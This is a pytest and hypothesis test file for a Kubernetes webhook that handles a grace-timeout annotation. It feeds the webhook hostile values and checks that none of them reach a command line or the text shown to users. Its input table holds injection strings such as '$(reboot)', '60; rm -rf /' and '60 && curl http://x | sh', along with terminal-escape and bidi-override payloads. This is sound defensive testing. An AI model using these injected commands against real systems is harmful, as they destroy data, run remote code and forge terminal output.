"""Hostile ``graceful.io/graceful-timeout`` values: bounded, never run, never echoed raw.

The annotation is written by whoever can create a Deployment, and read by the
webhook (which writes the grace period and the preStop hook) and the operator
(which writes Events and the policy's status, shown by ``kubectl``). For every
value, huge, negative, fractional, non-ASCII digits, shell fragments, control
characters, terminal escapes, bidi overrides, 10 KB:

- the grace period set is at most the policy's ``maxGracePeriodSeconds``;
- no annotation text reaches a command line: an ``Exec`` preStop is exactly
  ``["sleep", "<S>"]`` with S the policy's integer, whatever the annotation;
- what is shown to people (admission warnings, finding messages for Events and
  the status) is short and printable: no control character, no escape
  sequence, no bidi override, so it cannot forge lines or repaint a terminal.

``tests/webhook/test_fuzz.py`` covers the same ground at random over whole
reviews; this file names each class and checks the stronger, per-policy bounds.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import unicodedata
from typing import Any

import jsonpatch
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graceful.core import evaluate
from graceful.webhook.admit import judge
from graceful.webhook.cache import PolicyCache

from .conftest import opted_in, policy, review

CEILING = 120
SLEEP = 7
POLICIES = [
    policy("sleep", drain={"maxGracePeriodSeconds": CEILING, "preStopSleepSeconds": SLEEP}),
    policy("exec", drain={"maxGracePeriodSeconds": CEILING, "preStopSleepSeconds": SLEEP,
                          "preStopAction": "Exec"}),
]
LOOKUP = PolicyCache.of(POLICIES).policies_in
EXAMPLES = int(os.environ.get("GRACEFUL_HOSTILE_EXAMPLES", "3000"))

HOSTILE = {
    "huge": "99999999999999999999",
    "huge duration": "99999999h",
    "int64 overflow": str(2**63),
    "negative": "-1",
    "negative duration": "-5m",
    "zero": "0",
    "fractional": "1.5",
    "fractional duration": "0.5h",
    "exponent": "1e9",
    "inf": "inf",
    "nan": "NaN",
    "arabic-indic digits": "\u0663\u0666\u0660\u0660",
    "fullwidth digits": "\uff16\uff10",
    "superscript digits": "\u00b9\u00b2\u00b3",
    "shell substitution": "$(reboot)",
    "backticks": "`id`",
    "command chain": "60; rm -rf /",
    "and chain": "60 && curl http://x | sh",
    "newline": "60\nWarning: forged line",
    "carriage return": "60\rforged",
    "NUL": "60\x00",
    "terminal escape": "\x1b[2J\x1b[31mowned\x1b[0m",
    "OSC title": "\x1b]0;pwned\x07",
    "bidi override": "\u202e0063",
    "zero-width": "6\u200b0",
    "10 KB": "9" * 10_240,
    "10 KB of text": "$(x)" * 2_560,
    "only spaces": "   ",
    "ISO 8601": "PT1H",
}


def _ops(response: Any) -> list[dict[str, Any]]:
    return json.loads(base64.b64decode(response.patch)) if response.patch else []


def _printable(text: str) -> bool:
    """No control (Cc), format (Cf: bidi, zero-width), separator other than space."""
    return all(ch == " " or unicodedata.category(ch)[0] not in "CZ" for ch in text)


def _check(value: str, policy_name: str) -> dict[str, Any]:
    obj = opted_in(timeout=value)
    obj["metadata"]["annotations"]["graceful.io/policy"] = policy_name
    response = judge(review(copy.deepcopy(obj)), LOOKUP).response
    ops = _ops(response)
    result = jsonpatch.apply_patch(copy.deepcopy(obj), ops)
    spec: dict[str, Any] = result["spec"]["template"]["spec"]
    # bounded by the ceiling
    # (absent: the API server's default of 30 s, under the budget, was enough)
    assert 0 < spec.get("terminationGracePeriodSeconds", 30) <= CEILING
    # never a command line: the hook is the policy's, to the character
    pre_stop = spec["containers"][0]["lifecycle"]["preStop"]
    if policy_name == "exec":
        assert pre_stop == {"exec": {"command": ["sleep", str(SLEEP)]}}
    else:
        assert pre_stop == {"sleep": {"seconds": SLEEP}}
    strings = [v for op in ops for v in _leaves(op.get("value")) if isinstance(v, str)]
    assert set(strings) <= {"sleep", str(SLEEP)}, strings
    # shown to people: short and printable
    warnings = response.warnings or []
    assert warnings and all(len(w) < 120 and _printable(w) for w in warnings), warnings
    decision = evaluate(obj, POLICIES)
    for finding in decision.findings:
        assert _printable(finding.message) and len(finding.message) < 300, finding.message
    return spec


def _leaves(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [leaf for v in value.values() for leaf in _leaves(v)]
    if isinstance(value, list):
        return [leaf for v in value for leaf in _leaves(v)]
    return [value]


@pytest.mark.parametrize("policy_name", ["sleep", "exec"])
@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_each_hostile_class(value: str, policy_name: str) -> None:
    spec = _check(value, policy_name)
    if value.isascii() and value.isdigit() and len(value) < 30 and int(value) > CEILING:
        # readable and too long: capped; unreadable: the policy's default timeout
        assert spec["terminationGracePeriodSeconds"] in (CEILING, SLEEP + 30 + 5)


def test_a_readable_value_above_the_ceiling_is_capped_and_said() -> None:
    response = judge(review(opted_in(timeout="1h", name="w")), PolicyCache.of(
        [policy(drain={"maxGracePeriodSeconds": CEILING})]).policies_in).response
    ops = _ops(response)
    [grace] = [op["value"] for op in ops if op["path"].endswith("terminationGracePeriodSeconds")]
    assert grace == CEILING
    assert any(f"capped at {CEILING}s" in w for w in response.warnings or [])


hostile_text = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=60),
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Nd", "No"]), max_size=20),
    st.builds(lambda n, unit: f"{n}{unit}", st.integers(-(10**30), 10**30),
              st.sampled_from(["", "s", "m", "h", "d", "ms", ".5", "e3", " ", "\n"])),
    st.text(max_size=4).map(lambda t: t * 3_000),
)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=hostile_text, policy_name=st.sampled_from(["sleep", "exec"]))
def test_any_annotation_value(value: str, policy_name: str) -> None:
    _check(value, policy_name)
